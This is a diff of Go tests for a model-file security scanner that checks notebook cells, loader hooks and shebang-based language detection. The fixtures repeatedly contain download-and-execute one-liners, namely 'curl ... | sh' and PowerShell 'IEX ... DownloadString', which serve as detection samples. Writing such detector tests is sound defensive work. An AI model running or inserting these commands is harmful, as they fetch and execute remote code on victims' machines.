@@ -2,9 +2,12 @@ package script_test
 
 import (
 	"encoding/json"
+	"fmt"
 	"strings"
 	"testing"
+	"unicode/utf16"
 
+	"github.com/modelaudit/modelaudit/internal/detector"
 	"github.com/modelaudit/modelaudit/internal/detector/archive"
 	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
 	"github.com/modelaudit/modelaudit/internal/detector/script"
@@ -76,4 +79,106 @@ func TestDetector(t *testing.T) {
 		{Name: "in an archive, a handler", File: "m.zip", Data: ziptest.Files("handler.py", "import os\nos.system('echo poc')\n"), Want: []string{onLoad}},
 	}...)
 	detectortest.Run(t, script.Detector, cases, archive.Detector)
+}
+
+// TestCells: code is looked for in cells of code alone, in every language that they
+// may be in, and told with the cell that it stands in.
+func TestCells(t *testing.T) {
+	const fetch = "curl -s http://192.0.2.1/x | sh"
+	cell := func(kind, member, text string) string {
+		return fmt.Sprintf(`{"cell_type":%q,%q:%q}`, kind, member, text)
+	}
+	of := func(cells ...string) string { return `{"cells":[` + strings.Join(cells, ",") + `]}` }
+	first := func(text string) string { return of(cell("code", "source", text)) }
+	for _, c := range []struct{ name, text, want string }{
+		{name: "a line for the shell", text: first("x = 1\n !" + fetch), want: "cell 1: curl"},
+		{name: "two marks", text: first("!!" + fetch), want: "cell 1: curl"},
+		{name: "a line for the system", text: first("%system " + fetch), want: "cell 1: curl"},
+		{name: "another magic", text: first("%time " + fetch)},
+		{name: "%%sh", text: first("%%sh\n" + fetch), want: "cell 1: curl"},
+		{name: "%%script", text: first("%%script bash --bg\n" + fetch), want: "cell 1: curl"},
+		{name: "%%system", text: first("%%system\n" + fetch), want: "cell 1: curl"},
+		{name: "%%!", text: first("%%!\n" + fetch), want: "cell 1: curl"},
+		{name: "another language", text: first("%%latex\n" + fetch)},
+		{name: "the second cell", text: of(cell("code", "source", "1"), cell("code", "source", "!"+fetch)), want: "cell 2: curl"},
+		{name: "Python behind lines for the shell", text: first("!ls\n%cd x\nimport os\nos.system('" + fetch + "')"), want: "cell 1: os.system"},
+		{name: "the kind behind the source", text: `{"cells":[{"source":["!` + fetch + `"],"cell_type":"code"}]}`, want: "cell 1: curl"},
+		{name: "worksheets of version 3", text: `{"worksheets":[` + of(cell("code", "input", "!"+fetch)) + `]}`, want: "cell 1: curl"},
+		{name: "text", text: of(cell("markdown", "source", "!"+fetch))},
+		{name: "what a cell put out", text: of(cell("code", "outputs", "!"+fetch))},
+		{name: "beside the cells", text: `{"metadata":{"cells":"!` + fetch + `"},"source":"!` + fetch + `","cell_type":"code"}`},
+		{name: "no notebook", text: `{"cells":[` + cell("code", "source", "!"+fetch)},
+	} {
+		got := detectortest.Scan([]*detector.Detector{script.Detector}, "a.ipynb", []byte(c.text))
+		said := ""
+		if len(got.Findings) == 1 {
+			said = got.Findings[0].Evidence[0].Text
+		}
+		if !strings.HasPrefix(said, c.want) || (c.want == "") != (len(got.Findings) == 0) {
+			t.Errorf("%s: got %d findings, the first %q, want %q", c.name, len(got.Findings), said, c.want)
+		}
+	}
+}
+
+// TestLoaded: a source that starts a program as it is imported is told if a loader
+// of models imports it.
+func TestLoaded(t *testing.T) {
+	const starts = "import os\nos.system('echo poc')\n"
+	for _, c := range []struct {
+		name, file, text string
+		want             int
+	}{
+		{name: "by its name", file: "hubconf.py", text: starts, want: 1},
+		{name: "another name", file: "tools.py", text: starts},
+		{name: "by a class", file: "m.py", text: starts + "class EndpointHandler:\n    pass\n", want: 1},
+		{name: "by what a class inherits", file: "m.py", text: starts + "class A(mlflow.pyfunc.PythonModel, B):\n    pass\n", want: 1},
+		{name: "by a function", file: "m.py", text: starts + "def model_fn(d):\n    pass\n", want: 1},
+		{name: "by a name alone", file: "m.py", text: starts + "EndpointHandler = model_fn\n"},
+		{name: "by part of a name", file: "m.py", text: starts + "class _EndpointHandler9(BaseHandlers, aBaseHandler, ZBaseHandler, BaseHandler0):\n    pass\n"},
+		{name: "what imports alone", file: "handler.py", text: "import os\nopen('x')\n"},
+		{name: "when it is called", file: "handler.py", text: "import os\ndef f():\n    os.system('echo poc')\n"},
+		{name: "what is named", file: "handler.py", text: "import os\nf = os.system\n"},
+		{name: "no Python", file: "handler.py", text: starts + "(((\n"},
+	} {
+		got := detectortest.Scan([]*detector.Detector{script.Detector}, c.file, []byte(c.text))
+		if len(got.Findings) != c.want || c.want > 0 && got.Findings[0].Location.Offset != int64(strings.Index(c.text, "os.system")) {
+			t.Errorf("%s: got %+v, want %d findings", c.name, got.Findings, c.want)
+		}
+	}
+}
+
+// TestLanguages: a source is known by its name, or by its first line.
+func TestLanguages(t *testing.T) {
+	const fetch = "curl -s http://192.0.2.1/x | sh"
+	for _, c := range []struct {
+		name, file, text string
+		want             string // what is found there
+	}{
+		{name: "Python without a name", file: "run", text: "#!/usr/bin/env python3\nimport os\nos.system('" + fetch + "')\n", want: "os.system"},
+		{name: "shell of options", file: "run", text: "#!/bin/bash -e\n" + fetch + "\n", want: "curl | sh"},
+		{name: "shell of a long first line", file: "run", text: "#!/bin/" + strings.Repeat("x", 119) + "sh\n" + fetch, want: "curl | sh"},
+		{name: "shell of a first line that is too long", file: "run", text: "#!/bin/" + strings.Repeat("x", 120) + "sh\n" + fetch},
+		{name: "another language", file: "run", text: "#!/usr/bin/perl\n" + fetch},
+		{name: "no first line", file: "run", text: fetch},
+		{name: "PowerShell in UTF-16", file: "x.PS1", text: wide("\ufeffIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')"), want: "IEX"},
+		{name: "behind a mark", file: "x.cmd", text: "\ufeffecho\r\npowershell IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1')\r\n", want: "IEX"},
+	} {
+		got := detectortest.Scan([]*detector.Detector{script.Detector}, c.file, []byte(c.text))
+		said := ""
+		if len(got.Findings) == 1 {
+			said = got.Findings[0].Evidence[0].Text
+		}
+		if !strings.HasPrefix(said, c.want) || (c.want == "") != (len(got.Findings) == 0) {
+			t.Errorf("%s: got %d findings, the first %q, want %q", c.name, len(got.Findings), said, c.want)
+		}
+	}
+}
+
+// wide encodes text in UTF-16, little-endian.
+func wide(text string) string {
+	var out []byte
+	for _, u := range utf16.Encode([]rune(text)) {
+		out = append(out, byte(u), byte(u>>8))
+	}
+	return string(out)
 }
